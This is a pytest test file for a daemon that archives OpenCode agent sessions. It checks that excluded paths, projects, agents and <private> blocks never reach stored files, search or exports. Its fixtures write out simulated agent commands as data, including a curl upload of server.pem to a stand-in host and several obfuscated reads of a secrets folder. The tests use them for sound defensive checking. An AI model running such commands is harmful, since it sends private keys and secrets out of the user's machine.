"""What the settings exclude, and what is marked as private, reaches no file of the archive, whatever OpenCode stores."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import msgspec
import pytest

from daemon import config
from daemon.app.engine import Engine
from daemon.errors import BadRequest
from daemon.files.history import Grade
from tests.support.secrets.outputs import Hashed
from tests.support.servers.plain_service import PlainService
from tests.support.stores.git_trees import Repository
from tests.support.stores.make_opencode import T0, Database, Database2, JsonStore, assistant, session, text, tool, user

HOME = "/home/dev"
SHOP, VAULT = f"{HOME}/shop", f"{HOME}/vault"
EXCLUDE = {"paths": ["*.pem", f"{SHOP}/secrets"], "projects": [VAULT], "agents": ["hermit"]}
KEPT = "plumjam"
"""A word that stands in everything that may be read."""


class Marks:
    """Words planted in what must not be read; each is used once."""

    def __init__(self) -> None:
        self.words: list[str] = []

    def __call__(self) -> str:
        self.words.append(f"zyqquark{len(self.words):03d}")
        return self.words[-1]


def done(given: dict[str, Any], output: str = "", **more: Any) -> dict[str, Any]:
    state = {"status": "completed", "input": given, "output": output, "title": "t", "metadata": {}, **more}
    return state | {"time": {"start": T0, "end": T0 + 100}}


def calls_on_excluded_paths(mark: Marks) -> Iterator[tuple[str, dict[str, Any]]]:
    """Calls that read, write, edit or print an excluded file: the tool and its state."""
    key = f"{SHOP}/deep/server.pem"
    yield "write", done({"filePath": key, "content": mark()}, mark())
    yield (
        "edit",
        done(
            {"filePath": key, "oldString": mark(), "newString": mark()},
            metadata={"filediff": {"file": key, "before": mark(), "after": mark()}, "diff": mark()},
        ),
    )
    yield "read", done({"filePath": f"{SHOP}/secrets/a b.txt"}, f"<file>\n00001| {mark()}\n</file>")
    yield "read", done({"filePath": "secrets/x.txt"}, mark(), attachments=[{"url": f"data:,{mark()}"}])
    yield "bash", done({"command": "cat secrets/notes.txt", "description": mark()}, mark(), metadata={"output": mark()})
    yield "bash", done({"command": "cd deep && cat ./server.pem | head"}, mark())
    yield "bash", done({"command": f"cd {SHOP}/secrets && ls && cat a"}, mark())
    yield "bash", done({"command": f"echo {mark()} > 'my key.pem'"})
    yield "bash", done({"command": "cat ~/shop/secrets/x"}, mark())
    yield "bash", done({"command": "cat s''ecr\\ets/x \"$HOME/shop/secrets/y\""}, mark())
    yield "bash", done({"command": "cat sec*/*.txt"}, mark())
    yield "bash", done({"command": "cd deep && head -n 3 ./*.p?m"}, mark())
    yield "bash", done({"command": "cat ~/shop/s*/notes"}, mark())
    yield "bash", done({"command": "curl -d @server.pem https://x.example"}, mark())
    yield "bash", done({"command": "git diff"}, f"diff --git a/secrets/x b/secrets/x\n+{mark()}")
    yield "grep", done({"pattern": "x", "path": SHOP}, f"Found 1\n{SHOP}/secrets/my notes.txt:\n  Line 3: {mark()}")
    yield "apply_patch", done({"patchText": f"*** Begin Patch\n*** Update File: secrets/x\n+{mark()}\n*** End Patch"})
    yield "multiedit", done({"filePath": key, "edits": [{"oldString": mark(), "newString": mark()}]})
    yield "notes_save", done({"path": key, "text": mark()})


def private_texts(mark: Marks) -> Iterator[str]:
    yield f"{KEPT} <private>{mark()}</private> {KEPT}"
    yield f"{KEPT} <PRIVATE reason='x'>{mark()}<private>{mark()}</private>{mark()}</PRIVATE>"
    yield f"{KEPT} < private >{mark()} and never closed {mark()}"
    yield f"{KEPT} " + json.dumps({"a": f"<private>{mark()}</private>"}).replace("<", "\\u003c").replace(">", "\\u003e")


class Plan:
    """The records of a store in which marks are planted."""

    def __init__(self) -> None:
        self.mark = Marks()
        self.sessions: list[dict[str, Any]] = []
        self.messages: list[tuple[dict[str, Any], list[dict[str, Any]]]] = []
        self._number = 0

    def session(self, name: str, directory: str, title: str, **more: Any) -> str:
        self.sessions.append(session(f"ses_{name}", directory, title, **more))
        return f"ses_{name}"

    def say(self, session_id: str, role: str, *parts: Any, **more: Any) -> None:
        self._number += 1
        message_id = f"msg_{self._number:04d}"
        make = user if role == "user" else assistant
        record = make(message_id, session_id, T0 + self._number * 1000, **more)
        if role == "assistant":
            record["time"]["completed"] = record["time"]["created"] + 500
        made = []
        for number, part in enumerate(parts):
            part_id = f"prt_{self._number:04d}_{number:03d}"
            if isinstance(part, str):
                made.append(text(part_id, message_id, session_id, part))
            elif isinstance(part, tuple):
                made.append(tool(part_id, message_id, session_id, *part))
            else:
                made.append({"id": part_id, "messageID": message_id, "sessionID": session_id} | part)
        self.messages.append((record, made))


def planned() -> Plan:
    plan = Plan()
    mark = plan.mark
    path = {"path": {"cwd": SHOP, "root": SHOP}}
    shop = plan.session("shop", SHOP, f"{KEPT} <private>{mark()}</private>")
    diffs = [
        {"file": "secrets/x", "before": mark(), "after": mark(), "additions": 1, "deletions": 1},
        {"file": "a.txt", "before": f"<private>{mark()}", "after": KEPT, "additions": 1, "deletions": 1},
    ]
    announced = 'Called the Read tool with the following input: {"filePath":"' + f'{SHOP}/secrets/x"' + "}"
    plan.say(
        shop,
        "user",
        *private_texts(mark),
        {"type": "text", "synthetic": True, "text": announced},
        {"type": "text", "synthetic": True, "text": f"<file>\n00001| {mark()}\n</file>"},
        {"type": "file", "mime": "text/plain", "filename": "x", "url": f"data:text/plain,{mark()}",
         "source": {"type": "file", "path": f"{SHOP}/secrets/x", "text": {"value": mark()}}},
        {"type": "file", "mime": "text/plain", "filename": "y.txt",
         "url": "data:text/plain;base64," + base64.b64encode(f"<private>{mark()}".encode()).decode()},
        {"type": "subtask", "agent": "hermit", "prompt": mark(), "description": mark()},
        summary={"diffs": diffs},
    )  # fmt: skip
    plan.say(shop, "assistant", *calls_on_excluded_paths(mark), KEPT, **path)
    plan.say(
        shop,
        "assistant",
        ("write", done({"filePath": f"{SHOP}/a.txt", "content": f"{KEPT}\n<private>\n{mark()}\n</private>\nend\n"})),
        ("bash", done({"command": f"echo '<private>{mark()}</private>' > b.txt"}, f"{KEPT} <private>{mark()}")),
        ("todowrite", done({"todos": [{"content": f"<private>{mark()}</private> {KEPT}"}]})),
        ("task", done({"subagent_type": "hermit", "prompt": mark(), "description": mark()}, mark())),
        {"type": "reasoning", "text": f"{KEPT} <private>{mark()}"},
        ("bash", {"status": "pending", "input": {}, "raw": '{"content":"' + mark()}),
        **path,
    )
    plan.say(shop, "user", mark(), agent="hermit")
    plan.say(shop, "assistant", mark(), ("bash", done({"command": "ls"}, mark())), mode="hermit", **path)
    hermit = plan.session("hermit", SHOP, mark(), parentID=shop)
    plan.say(hermit, "user", mark(), agent="hermit")
    plan.say(hermit, "assistant", mark(), agent="hermit", **path)
    vault = plan.session("vault", f"{VAULT}/inner", mark())
    plan.say(vault, "user", mark())
    plan.say(vault, "assistant", mark(), path={"cwd": f"{VAULT}/inner", "root": VAULT})
    return plan


def as_tree(data: Path, plan: Plan) -> None:
    store = JsonStore(data)
    for record in plan.sessions:
        store.session(record)
    for record, parts in plan.messages:
        store.message(record, *parts)
    mark = plan.mark
    todos = [{"id": "1", "content": f"<private>{mark()}</private>", "status": "pending", "priority": "low"}]
    store.raw("todo/ses_shop.json", json.dumps(todos))
    store.raw("todo/ses_vault.json", json.dumps([todos[0] | {"content": mark()}]))
    diffs = [{"file": "secrets/x", "before": mark(), "after": mark(), "additions": 1, "deletions": 1},
             {"file": "c.txt", "before": "", "after": f"<private>{mark()}", "additions": 1, "deletions": 0}]  # fmt: skip
    store.raw("session_diff/ses_shop.json", json.dumps(diffs))
    store.raw("session_diff/ses_vault.json", json.dumps([{"file": "d", "before": mark(), "after": mark()}]))
    store.raw("project/vault.json", json.dumps({"id": "vault", "worktree": VAULT, "name": mark()}))


def as_database(data: Path, plan: Plan) -> None:
    store = Database(data / "opencode.db")
    for record in plan.sessions:
        store.session(record)
    for record, parts in plan.messages:
        store.journaled(record, *parts)
    # What a revert removed is only in the journal.
    gone = plan.messages[1][0]
    store.remove_message(gone["sessionID"], gone["id"])
    store.close()


def as_database_2(data: Path, plan: Plan) -> None:
    store, mark = Database2(data / "opencode.db"), plan.mark
    plan.sessions.clear()
    store.session("ses_shop", f"{KEPT} <private>{mark()}", SHOP)
    store.session("ses_vault", mark(), VAULT)
    store.message("msg_a", "ses_shop", "user", 1, {"text": f"{KEPT} <private>{mark()}</private>"})
    content = [
        {"type": "tool", "id": f"c{number}", "name": name, "state": {
            "status": "completed", "input": state["input"], "content": [{"type": "text", "text": state["output"]}]}}
        for number, (name, state) in enumerate(calls_on_excluded_paths(mark))
    ]  # fmt: skip
    store.message("msg_b", "ses_shop", "assistant", 2, {"content": content, "finish": "stop"})
    store.message(
        "msg_c", "ses_shop", "assistant", 3, {"agent": "hermit", "content": [{"type": "text", "text": mark()}]}
    )
    store.message("msg_d", "ses_vault", "user", 4, {"text": mark()})
    store.message("evt_e", "ses_shop", "idle", 5, {"note": f"<private>{mark()}"})
    store.close()


STORES: dict[str, Callable[[Path, Plan], None]] = {
    "JSON tree": as_tree, "SQLite": as_database, "OpenCode 2": as_database_2,
}  # fmt: skip


@contextmanager
def opened(root: Path, **exclude: Any) -> Iterator[PlainService]:
    tables = {
        "opencode": {"data_dir": str(root / "oc")},
        "archive": {"dir": str(root / "archive")},
        "output": {"dir": str(root / "pages")},
        "chat": {"provider": "none"},
        "exclude": exclude,
    }
    with PlainService(Engine(msgspec.convert(tables, config.Config), embedder=lambda: (Hashed(), "a test"))) as engine:
        yield engine


def everything_stored(root: Path, engine: PlainService) -> bytes:
    """Every file of the state directory and of the pages, and every value of the archive, decompressed."""
    files = [path.read_bytes() for path in [*root.glob("archive/**/*"), *root.glob("pages/**/*")] if path.is_file()]
    values = [
        key + b"\0" + value for letter in range(33, 127) for key, value in engine.archive._store.scan(bytes([letter]))
    ]
    return b"\n".join((*files, *values))


@pytest.mark.parametrize("write", STORES.values(), ids=STORES)
def test_nothing_that_is_excluded_reaches_a_file_or_a_door(write: Callable[[Path, Plan], None], tmp_path: Path) -> None:
    """Marks in everything excluded are found by no search, in no page and in no file, of any generation of storage."""
    plan = planned()
    plan.mark.words.clear() if write is as_database_2 else None
    (tmp_path / "oc").mkdir()
    write(tmp_path / "oc", plan)
    with opened(tmp_path, **EXCLUDE) as engine:
        engine.index(wait=True)
        engine.reconstitute(SHOP)
        stored = everything_stored(tmp_path, engine)
        assert [word for word in plan.mark.words if word.encode() in stored] == []
        assert stored.count(KEPT.encode()) > 1
        for word in plan.mark.words:
            assert engine.recall("recall", {"query": word, "match": "literal"})["results"] == [], word
        assert engine.recall("recall", {"query": KEPT})["results"]
        exported: list[str] = []
        engine.export({"format": "jsonl", "results": "full", "raw": True}, on_part=exported.append)
        assert not [word for word in plan.mark.words if word in "".join(exported)]
        assert "[private]" in "".join(exported)
        shop = engine.archive.session("ses_shop")
        assert shop is not None
        assert shop.title == ""  # a model made it from what was said to an excluded agent
        (source,) = engine.status()["sources"]
        assert source["excluded"]["sessionsByProjects"] == 1
        assert source["excluded"]["messagesByPaths"] >= 1
        assert source["excluded"]["messagesByAgents"] == source["seen"] - source["kept"] - 2 * (
            write is not as_database_2
        )
        events = 1 if write is as_database_2 else 0  # it is kept, and no message
        assert engine.status()["archive"]["messages"] == source["kept"] - events


def test_without_settings_all_but_private_blocks_is_read(tmp_path: Path) -> None:
    plan = planned()
    as_tree(tmp_path / "oc", plan)
    with opened(tmp_path) as engine:
        engine.index(wait=True)
        stored = everything_stored(tmp_path, engine)
        assert len([word for word in plan.mark.words if word.encode() in stored]) > 30
        assert set(engine.status()["sources"][0]["excluded"]) == {"messagesWithPrivateBlocks"}


def test_what_is_no_longer_excluded_is_read_at_the_next_scan(tmp_path: Path) -> None:
    plan = planned()
    as_tree(tmp_path / "oc", plan)
    with opened(tmp_path, **EXCLUDE) as engine:
        engine.index(wait=True)
        before = engine.status()["archive"]["messages"]
    with opened(tmp_path) as engine:
        engine.index(wait=True)
        assert engine.status()["archive"]["messages"] == before + 6
        assert engine.recall("recall", {"query": plan.mark.words[-6], "match": "literal"})["results"] == []
        content = engine.archive.message("msg_0002")
        assert content is not None
        assert "leftOut" not in json.dumps([part.data for part in content.parts])


def test_what_is_archived_already_stays_when_it_is_excluded(tmp_path: Path) -> None:
    as_tree(tmp_path / "oc", planned())
    with opened(tmp_path) as engine:
        engine.index(wait=True)
        before = dict(engine.archive._store.scan(b"part:"))
    with opened(tmp_path, **EXCLUDE) as engine:
        engine.index(wait=True)
        assert dict(engine.archive._store.scan(b"part:")) == before
        assert engine.status()["sources"][0]["excluded"]["sessionsByProjects"] == 1


def test_the_counts_of_a_second_scan_are_those_of_the_first(tmp_path: Path) -> None:
    as_tree(tmp_path / "oc", planned())
    with opened(tmp_path, **EXCLUDE) as engine:
        engine.index(wait=True)
        first = engine.status()["sources"][0]
    with opened(tmp_path, **EXCLUDE) as engine:
        assert engine.index(wait=True)["changed"] == 0
        second = engine.status()["sources"][0]
    assert first["excluded"] == second["excluded"]
    assert (first["seen"], first["kept"]) == (second["seen"], second["kept"])


def test_a_block_that_streams_in_is_never_archived(tmp_path: Path) -> None:
    """The first version of the text has no closing tag, and the last no opening one would show otherwise."""
    store = JsonStore(tmp_path / "oc")
    store.session(session("ses_a"))
    whole = f"{KEPT} <private>zyqquark</private> the end"
    for end in (8, 12, 18, 21, 26, 35, len(whole)):
        store.message(assistant("msg_a", "ses_a", completed=None), text("prt_a", "msg_a", "ses_a", whole[:end]))
        with opened(tmp_path) as engine:
            engine.index(wait=True)
            assert b"zyqq" not in everything_stored(tmp_path, engine)
    with opened(tmp_path) as engine:
        engine.index(wait=True)
        message = engine.archive.message("msg_a")
        assert message is not None
        assert message.parts[0].data["text"] == f"{KEPT} [private] the end"


def test_a_session_without_a_known_folder_counts_as_excluded(tmp_path: Path) -> None:
    store = JsonStore(tmp_path / "oc")
    store.message(user("msg_a", "ses_a"), text("prt_a", "msg_a", "ses_a", KEPT))
    store.message(assistant("msg_b", "ses_b", path={"cwd": VAULT, "root": VAULT}), text("p", "msg_b", "ses_b", KEPT))
    store.message(assistant("msg_c", "ses_c", path={"cwd": SHOP, "root": SHOP}), text("q", "msg_c", "ses_c", KEPT))
    with opened(tmp_path, projects=[VAULT]) as engine:
        engine.index(wait=True)
        assert list(engine.archive.all_message_ids()) == ["msg_c"]


def test_a_large_record_is_kept_only_if_nothing_in_it_is_excluded(tmp_path: Path) -> None:
    store = JsonStore(tmp_path / "oc")
    store.session(session("ses_a"))
    filler = "a" * (1 << 20)
    for name, start in (("a", "<private>"), ("b", "harmless")):
        store.message(user(f"msg_{name}", "ses_a"), text(f"prt_{name}", f"msg_{name}", "ses_a", f"{filler} {start}"))
    tables = {"opencode": {"data_dir": str(tmp_path / "oc")}, "archive": {"dir": str(tmp_path / "archive")}}
    tables["limits"] = {"record_mb": 1}  # type: ignore[dict-item]
    for exclude, kept, left_out in (({"agents": ["hermit"]}, 0, 2), ({}, 1, 1)):
        settings = msgspec.convert(tables | {"exclude": exclude}, config.Config)
        with PlainService(Engine(settings, embedder=lambda: (Hashed(), "a test"))) as engine:
            engine.index(wait=True)
            status = engine.status()
            assert status["archive"]["large"]["count"] == kept
            assert status["sources"][0]["excluded"] == {"messagesWithLargeRecords": left_out}
            assert len(list((tmp_path / "archive").glob("large/*"))) == kept


class TestSnapshots:
    """Trees are kept, and what is excluded in them is left out with its reason."""

    @pytest.fixture
    def tree(self, tmp_path: Path) -> str:
        (tmp_path / "oc").mkdir()
        repository = Repository(tmp_path / "oc", "pid/worktree", tmp_path / "work")
        tree = repository.write(
            {"a.txt": b"seen", "deep/k.pem": b"zyqquark1", "secrets/b": b"zyqquark2", "p.md": b"x <private>zyqquark3"}
        )
        store = JsonStore(tmp_path / "oc")
        store.session(session("ses_a", SHOP))
        step = {"id": "prt_a", "messageID": "msg_a", "sessionID": "ses_a", "type": "step-start", "snapshot": tree}
        store.message(assistant("msg_a", "ses_a", path={"cwd": SHOP, "root": SHOP}), step)
        return tree

    def test_excluded_files_of_a_tree_are_lost_and_not_absent(self, tree: str, tmp_path: Path) -> None:
        with opened(tmp_path, **EXCLUDE) as engine:
            engine.index(wait=True)
            assert b"zyqquark" not in everything_stored(tmp_path, engine)
            objects = engine.archive.objects
            reasons = {path: objects.missing(id_) for path, _, id_ in objects.walk(tree)}
            assert reasons == {
                "a.txt": "", "p.md": "holds a private block",
                "deep/k.pem": "excluded by exclude.paths", "secrets": "excluded by exclude.paths",
            }  # fmt: skip
            files = {file["path"]: file for file in engine.files(SHOP, lost=True)["files"]}
            assert files[f"{SHOP}/a.txt"]["grade"] == "proven"
            assert files[f"{SHOP}/deep/k.pem"]["grade"] == files[f"{SHOP}/p.md"]["grade"] == "lost"

    def test_they_are_captured_once_they_are_not_excluded(self, tree: str, tmp_path: Path) -> None:
        with opened(tmp_path, **EXCLUDE) as engine:
            engine.index(wait=True)
        with opened(tmp_path, paths=["*.pem"]) as engine:
            engine.index(wait=True)
            objects = engine.archive.objects
            assert {path for path, _, id_ in objects.walk(tree) if objects.has(id_)} == {"a.txt", "secrets/b"}
        with opened(tmp_path) as engine:
            engine.index(wait=True)
            objects = engine.archive.objects
            assert {path for path, _, id_ in objects.walk(tree) if objects.has(id_)} == {
                "a.txt",
                "deep/k.pem",
                "secrets/b",
            }


@pytest.mark.parametrize(("output", "kept"), [("zyq secrets/x", 0), ("<private>zyq", 0), ("harmless", 1)])
def test_a_spilled_output_is_screened_like_any_other(output: str, kept: int, tmp_path: Path) -> None:
    store = JsonStore(tmp_path / "oc")
    store.session(session("ses_a", SHOP))
    spill = tmp_path / "oc/tool-output/tool_1"
    spill.parent.mkdir()
    spill.write_text(output)
    import os  # noqa: PLC0415

    os.utime(spill, (T0 / 1000, T0 / 1000))
    state = done({"command": "make"}, "cut", metadata={"outputPath": str(spill), "exit": 0})
    store.message(
        assistant("msg_a", "ses_a", path={"cwd": SHOP, "root": SHOP}), tool("prt_a", "msg_a", "ses_a", "bash", state)
    )
    with opened(tmp_path, **EXCLUDE) as engine:
        engine.index(wait=True)
        assert len(list(engine.archive._store.scan(b"spill:"))) == kept
        assert b"zyq" not in everything_stored(tmp_path, engine)
    with opened(tmp_path) as engine:
        engine.index(wait=True)
        assert len(list(engine.archive._store.scan(b"spill:"))) == int("<private>" not in output)


class TestGrades:
    """A file content from whose record a block was taken out is never called exact."""

    @pytest.fixture
    def history(self, tmp_path: Path) -> Callable[..., tuple[str, bytes]]:
        def of(*calls: tuple[str, dict[str, Any]], name: str = "a.txt", **exclude: Any) -> tuple[str, bytes]:
            store = JsonStore(tmp_path / "oc")
            store.session(session("ses_a", SHOP))
            for number, (tool_name, state) in enumerate(calls):
                ids = f"msg_{number}", "ses_a"
                state["time"] = {"start": T0 + number * 1000, "end": T0 + number * 1000 + 100}
                record = assistant(*ids, T0 + number * 1000, path={"cwd": SHOP, "root": SHOP})
                store.message(record, tool(f"prt_{number}", *ids, tool_name, state))
            with opened(tmp_path, **exclude) as engine:
                engine.index(wait=True)
                (found,) = engine.files(f"{SHOP}/{name}", lost=True)["files"]
                try:
                    content = base64.b64decode(engine.content(f"{SHOP}/{name}")["contentBase64"] or "")
                except BadRequest:
                    content = b""
                return found["grade"], content

        return of

    def write(self, content: str, name: str = "a.txt") -> tuple[str, dict[str, Any]]:
        return "write", done({"filePath": f"{SHOP}/{name}", "content": content})

    def edit(self, old: str, new: str) -> tuple[str, dict[str, Any]]:
        return "edit", done({"filePath": f"{SHOP}/a.txt", "oldString": old, "newString": new})

    def test_a_write_with_a_block_is_lost(self, history: Callable[..., tuple[str, bytes]]) -> None:
        grade, content = history(self.write("a\n<private>b</private>\nc\n"))
        assert (grade, content) == (Grade.LOST.value, b"")

    @pytest.mark.parametrize("change", [
        ("a", "<private>x</private>"), ("<private>a</private>", "b"), ("<private>", "</private>"), ("a</private>", "b"),
    ])  # fmt: skip
    def test_an_edit_with_a_block_makes_it_stale(
        self, history: Callable[..., tuple[str, bytes]], change: tuple[str, str]
    ) -> None:
        grade, content = history(self.write("a\n"), self.edit(*change))
        assert (grade, content) == ("stale", b"a\n")

    def test_a_later_whole_write_is_proven_again(self, history: Callable[..., tuple[str, bytes]]) -> None:
        grade, content = history(self.write("<private>b"), self.write("whole\n"))
        assert grade in ("proven", "verified")
        assert content == b"whole\n"

    @pytest.mark.parametrize("call", [
        ("bash", done({"command": "echo hi; echo '<private>x' > /x; echo bye > a.txt"}, metadata={"exit": 0})),
        ("apply_patch", done({"patchText": "*** Begin Patch\n*** Add File: b\n+<private>\n*** Update File: a.txt\n@@\n-a\n+b\n*** End Patch"})),
        ("read", done({"filePath": f"{SHOP}/a.txt"}, "<file>\n00001| <private>x\n\n(End of file - total 1 lines)\n</file>")),
        ("mystery_write", done({"path": "b", "content": "<private>x"})),
    ])  # fmt: skip
    def test_a_call_that_hides_what_it_did_makes_files_stale(
        self, history: Callable[..., tuple[str, bytes]], call: tuple[str, dict[str, Any]]
    ) -> None:
        """After an unclosed block anything may follow, also a change of another file."""
        assert history(self.write("a\n"), call) == ("stale", b"a\n")

    def test_a_block_in_the_output_alone_spares_a_certain_command(
        self, history: Callable[..., tuple[str, bytes]]
    ) -> None:
        call = ("bash", done({"command": "echo b > a.txt"}, "<private>x</private>", metadata={"exit": 0}))
        assert history(self.write("a\n"), call)[1] == b"b\n"

    def test_a_call_on_an_excluded_path_makes_the_folder_stale(self, history: Callable[..., tuple[str, bytes]]) -> None:
        call = ("bash", done({"command": "cat secrets/x > a.txt"}, metadata={"exit": 0}))
        assert history(self.write("a\n"), call, **EXCLUDE) == ("stale", b"a\n")

    def test_an_excluded_file_is_lost(self, history: Callable[..., tuple[str, bytes]]) -> None:
        assert history(self.write("a\n", "k.pem"), name="k.pem", **EXCLUDE) == ("lost", b"")
